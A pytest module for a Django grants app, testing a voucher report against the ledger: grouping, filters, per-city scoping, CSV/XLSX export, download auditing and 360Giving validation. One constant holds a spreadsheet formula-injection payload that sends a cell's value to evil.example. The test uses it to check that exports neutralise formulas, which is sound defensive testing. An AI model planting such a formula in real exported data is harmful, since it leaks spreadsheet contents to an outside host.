"""The voucher report (issue 13, item 7) against the ledger and the claims read raw, its formats, scope and audit,
and voucher payments in the 360Giving package, validated against the official 1.4.3 schemas."""

import csv
import io
from collections import defaultdict
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from grants.api import voucher_reports
from grants.models import (
    AuditEvent,
    FundingPool,
    Institution,
    LedgerEntry,
    Provider,
    Voucher,
    VoucherClaim,
    VoucherScheme,
)
from grants.services import vouchers as service
from tests import factories as f
from tests import voucher_factories as vf
from tests.api.conftest import client_for
from tests.api.test_360giving import problems

# The official schemas, loaded once per module (a fixture: the redundant alias marks the import as used).
from tests.api.test_360giving import validator as validator

URL = "/api/v1/reports/vouchers/"
EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'


@dataclass
class Book:
    """Shanghai: a compute pool and a models pool (which pays the provider) run as vouchers, two providers;
    Hangzhou: one voucher, one claim paid."""

    compute: FundingPool
    models: FundingPool
    hz_pool: FundingPool
    gpu: Provider  # compute and models
    cloud: Provider  # compute; its name is formula-shaped
    hz_provider: Provider
    full: Voucher  # carol's: one claim paid in full, one paid lower, one pending
    spent_last_year: (
        Voucher  # olga's, issued for last year: one claim rejected, then the whole face value lapsed
    )
    model_voucher: Voucher  # carol's, models pool: one claim paid to the provider
    hz_voucher: Voucher
    paid_full: VoucherClaim
    paid_lower: VoucherClaim
    pending: VoucherClaim
    rejected: VoucherClaim
    paid_models: VoucherClaim
    hz_paid: VoucherClaim


LOWER_BY = Decimal("1234.56")


@pytest.fixture
def book(world, alice, carol, dave, hangzhou, shanghai) -> Book:
    programme = world.sh_pool.programme
    compute = f.pool(programme, code="VCP", cap="600000000", name_en="Computing power vouchers")
    models = f.pool(programme, code="VMD", cap="300000000", name_en="Model vouchers", category="models")
    hz_pool = f.pool(world.hz_pool.programme, code="VHZ", cap="250000000", name_en="Hangzhou vouchers")
    vf.scheme(compute)
    vf.scheme(models, pays=VoucherScheme.Payee.PROVIDER)
    vf.scheme(hz_pool)
    gpu = vf.provider(shanghai, categories=("compute", "models"))
    model_offering = service.add_offering(
        provider=gpu, actor=vf.officer_of(shanghai), category="models", name="Foundation model API"
    )
    cloud = vf.provider(shanghai, offerings=(("Ascend 910B hours", "910B", "domestic"),))
    Institution.objects.filter(pk=cloud.institution_id).update(name_en=EVIL)
    hz_provider = vf.provider(hangzhou)

    olga = f.user("olga")
    olgas_lab = f.institution(shanghai, olga, type="sme")
    last_year = timezone.localdate().year - 1
    full = vf.voucher(compute, world.institution, face="1000000", officer=alice)
    spent_last_year = vf.voucher(
        compute, olgas_lab, face="500000", officer=alice, valid_from=date(last_year, 3, 1)
    )
    model_voucher = vf.voucher(models, world.institution, face="200000", officer=alice)
    hz_voucher = vf.voucher(hz_pool, world.hz_institution, face="300000")

    paid_full = service.approve_claim(
        claim=vf.claim(full, gpu, actor=carol), actor=dave, payment_reference="VP-1"
    )
    lower = vf.claim(full, cloud, actor=carol)
    paid_lower = service.approve_claim(
        claim=lower, actor=dave, amount=lower.amount - LOWER_BY, payment_reference="VP-2"
    )
    pending = vf.claim(full, gpu, actor=carol)
    rejected = service.reject_claim(
        claim=vf.claim(spent_last_year, gpu, actor=olga), actor=dave, reason="The invoice is not legible."
    )
    # Claimed last spring: the claim's month is not the ledger's.
    VoucherClaim.objects.filter(pk=rejected.pk).update(
        submitted_at=timezone.make_aware(datetime(last_year, 4, 15, 10, 0))
    )
    paid_models = service.approve_claim(
        claim=vf.claim(model_voucher, gpu, actor=carol, offering=model_offering),
        actor=dave,
        payment_reference="VP-3",
    )
    henry = User.objects.get(username="henry")
    hz_paid = service.approve_claim(
        claim=vf.claim(hz_voucher, hz_provider, actor=henry),
        actor=vf.finance_of(hangzhou),
        payment_reference="HZ-VP-1",
    )
    # Last year's voucher runs out with nothing paid: its whole face value lapses; this year's are still valid.
    assert service.expire_vouchers(today=timezone.localdate()) == 1
    return Book(
        compute=compute,
        models=models,
        hz_pool=hz_pool,
        gpu=gpu,
        cloud=Provider.objects.get(pk=cloud.pk),
        hz_provider=hz_provider,
        full=Voucher.objects.get(pk=full.pk),
        spent_last_year=Voucher.objects.get(pk=spent_last_year.pk),
        model_voucher=Voucher.objects.get(pk=model_voucher.pk),
        hz_voucher=Voucher.objects.get(pk=hz_voucher.pk),
        paid_full=VoucherClaim.objects.get(pk=paid_full.pk),
        paid_lower=VoucherClaim.objects.get(pk=paid_lower.pk),
        pending=VoucherClaim.objects.get(pk=pending.pk),
        rejected=VoucherClaim.objects.get(pk=rejected.pk),
        paid_models=VoucherClaim.objects.get(pk=paid_models.pk),
        hz_paid=VoucherClaim.objects.get(pk=hz_paid.pk),
    )


# --- The figures, recomputed from the raw ledger entries and claims as a person with a spreadsheet would ------------

KEY_COLUMNS = {
    "city": ("city",),
    "pool": ("pool_id", "pool_code"),
    "provider": ("provider_id", "provider_credit_code", "provider_name"),
    "category": ("category",),
    "month": ("month",),
}
K = LedgerEntry.Kind


def _entry_key(e: LedgerEntry, dim: str) -> tuple[Any, ...]:
    if dim == "city":
        return (e.pool.programme.city.code,)
    if dim == "pool":
        return (e.pool_id, e.pool.code)
    if dim == "month":
        return (f"{timezone.localtime(e.created_at):%Y-%m}",)
    # Grouped by provider or category, only payments (DISBURSE entries naming a claim) are counted.
    claim = e.claim
    assert claim is not None
    if dim == "provider":
        return (claim.provider_id, claim.provider.institution.credit_code, claim.provider.institution.name_en)
    return (claim.offering.category,)


def _claim_key(c: VoucherClaim, dim: str) -> tuple[Any, ...]:
    return {
        "city": lambda: (c.voucher.pool.programme.city.code,),
        "pool": lambda: (c.voucher.pool_id, c.voucher.pool.code),
        "provider": lambda: (
            c.provider_id,
            c.provider.institution.credit_code,
            c.provider.institution.name_en,
        ),
        "category": lambda: (c.offering.category,),
        "month": lambda: (f"{timezone.localtime(c.submitted_at):%Y-%m}",),
    }[dim]()


def expected(group: list[str], *, claims_only: bool = False) -> dict[tuple[Any, ...], dict[str, Any]]:
    """Per group: amounts summed and objects counted (vouchers issued or lapsed, claims paid or claimed)."""
    out: dict[tuple[Any, ...], dict[str, Any]] = defaultdict(
        lambda: defaultdict(lambda: {"amount": Decimal(0), "ids": set()})
    )
    entries = LedgerEntry.objects.select_related(
        "pool__programme__city", "claim__provider__institution", "claim__offering"
    )
    for e in entries:
        if e.kind == K.DISBURSE and e.claim_id:
            measure, counted = "paid", e.claim_id
        elif e.kind == K.COMMIT and e.voucher_id and not claims_only:
            measure, counted = "issued", e.voucher_id
        elif e.kind == K.DECOMMIT and e.voucher_id and not claims_only:
            measure, counted = "lapsed", e.voucher_id
        else:
            continue
        key = tuple(v for dim in group for v in _entry_key(e, dim))
        out[key][measure]["amount"] += e.amount
        out[key][measure]["ids"].add(counted)
    claims = VoucherClaim.objects.select_related(
        "voucher__pool__programme__city", "provider__institution", "offering"
    )
    for c in claims:
        key = tuple(v for dim in group for v in _claim_key(c, dim))
        measures = ["claimed", *{"submitted": ["pending"], "rejected": ["rejected"]}.get(c.status, [])]
        for measure in measures:
            out[key][measure]["amount"] += c.amount
            out[key][measure]["ids"].add(c.pk)
    return out


def assert_rows_match(body: dict[str, Any], group: list[str], *, claims_only: bool = False) -> None:
    want = expected(group, claims_only=claims_only)
    names = [c for dim in group for c in KEY_COLUMNS[dim]]
    assert body["columns"] == names + voucher_reports.MEASURE_COLUMNS
    got = {tuple(row[c] for c in names): row for row in body["rows"]}
    assert set(got) == set(want) or (not group and set(got) == {()}), (set(got), set(want))
    for key, row in got.items():
        for measure in voucher_reports.MEASURES:
            if claims_only and measure in ("issued", "lapsed"):
                assert row[f"{measure}_amount"] is None and row[f"{measure}_count"] is None, (key, measure)
                continue
            figures = want[key][measure]
            assert Decimal(row[f"{measure}_amount"]) == figures["amount"], (key, measure)
            assert row[f"{measure}_count"] == len(figures["ids"]), (key, measure)


@pytest.mark.parametrize(
    "group",
    [[], ["city"], ["pool"], ["month"], ["pool", "month"], ["city", "pool", "month"]],
)
def test_voucher_report_equals_the_ledger(api, book, erin, group, django_assert_max_num_queries):
    params = {"group": ",".join(group)} if group else {}
    with django_assert_max_num_queries(8):
        response = api(erin).get(URL, params)
    assert response.status_code == 200, response.json()
    assert response.json()["group"] == group
    assert_rows_match(response.json(), group)


@pytest.mark.parametrize("group", [["provider"], ["category"], ["city", "provider"], ["provider", "month"]])
def test_by_provider_and_category_only_claims_count(api, book, erin, group):
    """A voucher names no provider: grouped by provider or category, issued and lapsed are empty, never zero."""
    response = api(erin).get(URL, {"group": ",".join(group)})
    assert response.status_code == 200, response.json()
    assert_rows_match(response.json(), group, claims_only=True)


def _total(api, user, **params) -> dict[str, Any]:
    response = api(user).get(URL, params)
    assert response.status_code == 200, response.json()
    (row,) = response.json()["rows"]
    return row


def _money(row: dict[str, Any], measure: str) -> tuple[Decimal, int]:
    return Decimal(row[f"{measure}_amount"]), row[f"{measure}_count"]


def test_issue_payment_at_a_lower_amount_rejection_and_expiry_in_figures(api, book, erin):
    """The story of the fixture in numbers: four vouchers issued, six claims of 30,000 (four paid, one at 1,234.56
    less; one rejected; one pending), last year's voucher lapsed whole."""
    row = _total(api, erin)
    claim = Decimal("30000.00")
    assert _money(row, "issued") == (Decimal("2000000.00"), 4)
    assert _money(row, "claimed") == (6 * claim, 6)
    assert _money(row, "pending") == (claim, 1)
    assert _money(row, "rejected") == (claim, 1)
    assert _money(row, "paid") == (4 * claim - LOWER_BY, 4)
    assert _money(row, "lapsed") == (Decimal("500000.00"), 1)
    # The vouchers' own counters say the same.
    vouchers = Voucher.objects.all()
    assert _money(row, "issued")[0] == sum(v.face_value for v in vouchers)
    assert _money(row, "paid")[0] == sum(v.paid for v in vouchers)
    assert _money(row, "lapsed")[0] == sum(v.lapsed for v in vouchers)
    assert _money(row, "pending")[0] == sum(v.held for v in vouchers)
    assert book.paid_lower.approved_amount == claim - LOWER_BY


def test_by_pool_the_report_reconciles_with_the_pools_counters(api, book, erin):
    """Per voucher pool: issued less lapsed is what the pool has committed, paid what it has disbursed."""
    rows = {r["pool_code"]: r for r in api(erin).get(URL, {"group": "pool"}).json()["rows"]}
    assert set(rows) == {"VCP", "VMD", "VHZ"}  # the award pools' movements are not voucher figures
    for pool in (book.compute, book.models, book.hz_pool):
        pool.refresh_from_db()
        row = rows[pool.code]
        assert _money(row, "issued")[0] - _money(row, "lapsed")[0] == pool.committed
        assert _money(row, "paid")[0] == pool.disbursed


def test_paid_by_provider_holds_the_lower_amount(api, book, erin):
    rows = {r["provider_id"]: r for r in api(erin).get(URL, {"group": "provider"}).json()["rows"]}
    assert _money(rows[book.cloud.pk], "paid") == (Decimal("30000.00") - LOWER_BY, 1)
    assert _money(rows[book.gpu.pk], "paid") == (Decimal("60000.00"), 2)
    assert _money(rows[book.gpu.pk], "claimed") == (Decimal("120000.00"), 4)
    assert _money(rows[book.gpu.pk], "rejected") == (Decimal("30000.00"), 1)
    by_category = {r["category"]: r for r in api(erin).get(URL, {"group": "category"}).json()["rows"]}
    assert _money(by_category["models"], "paid") == (Decimal("30000.00"), 1)
    assert by_category["models"]["issued_amount"] is None


def test_filters(api, book, erin):
    compute = _total(api, erin, pool=book.compute.pk)
    assert _money(compute, "issued") == (Decimal("1500000.00"), 2)
    last_year = _total(api, erin, fiscal_year=book.spent_last_year.fiscal_year)
    assert _money(last_year, "issued") == (Decimal("500000.00"), 1)
    assert _money(last_year, "lapsed") == (Decimal("500000.00"), 1)
    assert _money(last_year, "rejected") == (Decimal("30000.00"), 1)
    assert _money(last_year, "paid") == (Decimal("0.00"), 0)
    hz = _total(api, erin, city="hz")
    assert _money(hz, "issued") == (Decimal("300000.00"), 1)
    assert _money(hz, "paid") == (Decimal("30000.00"), 1)
    # Dates: ledger entries by the day they were made, claims by the day they were submitted.
    yesterday = timezone.localdate() - timedelta(days=1)
    before_today = _total(api, erin, date_to=yesterday.isoformat())
    assert _money(before_today, "issued") == (Decimal("0.00"), 0)
    assert _money(before_today, "claimed") == (Decimal("30000.00"), 1)  # last spring's rejected claim
    today = _total(api, erin, date_from=timezone.localdate().isoformat())
    assert _money(today, "claimed") == (Decimal("150000.00"), 5)
    # Filtered by provider or category, only claims count.
    gpu = _total(api, erin, provider=book.gpu.pk)
    assert gpu["issued_amount"] is None and gpu["lapsed_count"] is None
    assert _money(gpu, "paid") == (Decimal("60000.00"), 2)
    models = _total(api, erin, category="models")
    assert _money(models, "paid") == (Decimal("30000.00"), 1) and models["issued_count"] is None


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"group": "colour"}, "group.0"),
        ({"category": "food"}, "category.0"),
        ({"pool": "-1"}, "pool.0"),
        ({"fiscal_year": "twenty"}, "fiscal_year.0"),
        ({"date_from": "2026-02-01", "date_to": "2026-01-01"}, "date_to"),
        ({"date_from": "01/02/2026"}, "date_from"),
        ({"format": "pdf"}, "format"),
    ],
)
def test_bad_parameters_are_400_and_record_no_download(api, book, erin, params, field):
    before = AuditEvent.objects.filter(action="report.download").count()
    response = api(erin).get(URL, params)
    assert response.status_code == 400 and field in response.json()["fields"], response.json()
    assert AuditEvent.objects.filter(action="report.download").count() == before


# --- Scope ----------------------------------------------------------------------------------------------------------


def test_each_city_sees_its_own_vouchers_only(api, book, alice, bob, dave):
    for user in (alice, dave):
        rows = api(user).get(URL, {"group": "city"}).json()["rows"]
        assert [r["city"] for r in rows] == ["SH"]
        assert _money(rows[0], "issued") == (Decimal("1700000.00"), 3)
    assert [r["city"] for r in api(bob).get(URL, {"group": "city"}).json()["rows"]] == ["HZ"]
    # Another city's officer asking for Shanghai by name gets nothing of it: no groups, a total of zeros.
    assert api(bob).get(URL, {"group": "pool", "city": "SH"}).json()["rows"] == []
    assert api(bob).get(URL, {"group": "provider", "pool": book.compute.pk}).json()["rows"] == []
    nothing = _total(api, bob, city="SH")
    assert all(nothing[f"{m}_count"] == 0 for m in voucher_reports.MEASURES)
    assert all(nothing[f"{m}_amount"] == "0.00" for m in voucher_reports.MEASURES)  # money: two places


def test_holders_providers_and_reviewers_get_no_figures(api, book, carol, rita):
    provider_user = vf.provider_user(book.gpu.institution)
    for user in (carol, rita, provider_user):
        assert api(user).get(URL, {"group": "pool"}).json()["rows"] == []
        total = _total(api, user)
        assert all(Decimal(total[f"{m}_amount"]) == 0 for m in voucher_reports.MEASURES)
    assert api(None).get(URL).status_code in (401, 403)


# --- Formats and the audit of downloads -----------------------------------------------------------------------------


def _body(response) -> bytes:
    return b"".join(response.streaming_content)


def test_csv_and_xlsx_carry_the_json_rows_with_formulas_neutralised(api, book, erin):
    params = {"group": "provider,month"}
    as_json = api(erin).get(URL, params).json()
    response = api(erin).get(URL, {**params, "format": "csv"})
    assert response["Content-Type"].startswith("text/csv") and response.streaming
    assert 'filename="vouchers-' in response["Content-Disposition"]
    lines = list(csv.reader(io.StringIO(_body(response).decode())))
    assert lines[0] == as_json["columns"]
    plain = [{k: "" if v is None else str(v) for k, v in row.items()} for row in as_json["rows"]]
    expected_csv = [
        {**row, "provider_name": "'" + EVIL if row["provider_name"] == EVIL else row["provider_name"]}
        for row in plain
    ]
    assert [dict(zip(lines[0], line, strict=True)) for line in lines[1:]] == expected_csv
    assert any(line[lines[0].index("provider_name")] == "'" + EVIL for line in lines[1:])

    xlsx = api(erin).get(URL, {**params, "format": "xlsx"})
    assert xlsx["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(_body(xlsx))).worksheets[0]
    header, *rows = [tuple(c.value for c in row) for row in sheet.iter_rows()]
    assert list(header) == as_json["columns"] and len(rows) == len(as_json["rows"])
    names = {r[header.index("provider_name")] for r in rows}
    assert "'" + EVIL in names and EVIL not in names
    paid = header.index("paid_amount")
    assert all(isinstance(r[paid], int | float) for r in rows)  # amounts stay numbers
    assert sum(Decimal(str(r[paid])) for r in rows) == sum(Decimal(r["paid_amount"]) for r in as_json["rows"])
    assert all(r[header.index("issued_amount")] is None for r in rows)


@pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
def test_each_download_is_audited_with_its_filters(api, book, erin, shanghai, fmt):
    response = api(erin).get(URL, {"group": "pool", "city": "SH", "format": fmt})
    assert response.status_code == 200
    event = AuditEvent.objects.filter(action="report.download").latest("id")
    assert event.actor == erin and event.object_id == "vouchers" and event.after is not None
    assert event.after["format"] == fmt
    assert event.after["filters"] == {"group": "pool", "city": "SH"}
    assert event.city_id == shanghai.pk


def test_the_query_count_does_not_grow_with_vouchers(api, book, erin, alice):
    """Two queries for the figures (the ledger's groups, the claims' groups) whatever the data size."""

    def queries() -> int:
        with CaptureQueriesContext(connection) as ctx:
            response = api(erin).get(URL, {"group": "pool,provider,month", "format": "csv"})
            assert response.status_code == 200 and _body(response)
        return len(ctx.captured_queries)

    queries()  # the caller's roles and cities, read once per request object and then cached on the user
    before = queries()
    assert before <= 4
    lab = f.institution(book.compute.programme.city, f.user("pavel"))
    for _ in range(5):
        voucher = vf.voucher(book.compute, lab, face="100000", officer=alice)
        vf.claim(voucher, book.gpu, actor=User.objects.get(username="pavel"))
    assert queries() == before


# --- 360Giving ------------------------------------------------------------------------------------------------------


def _grants(api, user, **params) -> dict[str, dict[str, Any]]:
    response = api(user).get("/api/v1/reports/360giving/", params)
    assert response.status_code == 200, response.json()
    return {g["id"]: g for g in response.json()["grants"]}


def _claim_references(grants: dict[str, dict[str, Any]], prefix: str = "cn-grants") -> set[str]:
    """The voucher claims among a package's grants, by reference."""
    ids = {gid.removeprefix(f"360G-{prefix}-") for gid in grants}
    return ids & set(VoucherClaim.objects.values_list("reference", flat=True))


def test_voucher_payments_are_grants_to_the_holder_and_the_package_validates(
    api, book, world, erin, validator, settings
):
    settings.GRANTS_360G_PREFIX = "cn-test"
    package = api(erin).get("/api/v1/reports/360giving/").json()
    assert problems(validator, package) == []
    grants = {g["id"]: g for g in package["grants"]}
    paid = {c.reference for c in (book.paid_full, book.paid_lower, book.paid_models, book.hz_paid)}
    assert _claim_references(grants, "cn-test") == paid  # neither the pending nor the rejected claim
    lower = grants[f"360G-cn-test-{book.paid_lower.reference}"]
    approved = book.paid_lower.approved_amount
    assert approved == Decimal("30000") - LOWER_BY
    assert lower["amountAwarded"] == float(approved) == lower["amountDisbursed"]
    assert lower["amountAppliedFor"] == 30000 and lower["currency"] == "CNY"
    assert lower["awardDate"] == timezone.localtime(book.paid_lower.decided_at).date().isoformat()
    holder = f"CN-USCI-{world.institution.credit_code}"
    assert lower["recipientOrganization"][0]["id"] == holder
    assert lower["recipientOrganization"][0]["name"] == world.institution.name_en
    award = grants[f"360G-cn-test-{world.award.reference}"]
    assert lower["fundingOrganization"] == award["fundingOrganization"]  # the same programme, the same agency
    (payment,) = lower["disbursementTransaction"]
    assert payment["value"] == float(approved) and payment["recipient"] == holder
    assert payment["transactionDate"] == lower["awardDate"]
    assert payment["provider"] == award["fundingOrganization"][0]["id"]
    # The models scheme pays the provider: the grant is still the holder's, the money went to the provider.
    models = grants[f"360G-cn-test-{book.paid_models.reference}"]
    assert models["recipientOrganization"][0]["id"] == holder
    assert models["disbursementTransaction"][0]["recipient"] == f"CN-USCI-{book.gpu.institution.credit_code}"


def test_an_invalid_voucher_grant_is_caught_by_the_validator(api, book, erin, validator):
    """The validation is real for voucher grants too."""
    package = api(erin).get("/api/v1/reports/360giving/", {"city": "HZ"}).json()
    grant = next(g for g in package["grants"] if g["id"].endswith(book.hz_paid.reference))
    grant["amountAwarded"] = "30000.00"
    assert problems(validator, package)


def test_voucher_grants_are_scoped_and_filtered(api, book, bob, carol, erin):
    assert _claim_references(_grants(api, bob)) == {book.hz_paid.reference}
    # The holder sees its own payments, as it sees its own awards.
    own = {book.paid_full.reference, book.paid_lower.reference, book.paid_models.reference}
    assert _claim_references(_grants(api, carol)) == own
    assert _claim_references(_grants(api, erin, city="SH")) == own
    assert _claim_references(_grants(api, erin, pool=book.models.pk)) == {book.paid_models.reference}
    # `status` is an award's: voucher payments are left out. The award date is the day a claim was approved.
    assert _claim_references(_grants(api, erin, status="active")) == set()
    assert len(_claim_references(_grants(api, erin, awarded_from=timezone.localdate().isoformat()))) == 4
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    later = api(erin).get("/api/v1/reports/360giving/", {"awarded_from": tomorrow})
    assert later.status_code == 404 and later.json()["code"] == "no_awards"


def test_the_demos_voucher_payments_are_in_its_valid_package(db, validator):
    """The demo's paid claims (Shanghai and Hangzhou) are all in the package, which still has zero problems against
    the official 1.4.3 schemas; its report equals its ledger."""
    call_command("load_demo")
    auditor = User.objects.get(username="auditor")
    package = client_for(auditor).get("/api/v1/reports/360giving/").json()
    assert problems(validator, package) == []
    paid = set(VoucherClaim.objects.filter(status="paid").values_list("reference", flat=True))
    assert paid and _claim_references({g["id"]: g for g in package["grants"]}) == paid
    body = client_for(auditor).get(URL, {"group": "city,pool,month"}).json()
    assert_rows_match(body, ["city", "pool", "month"])
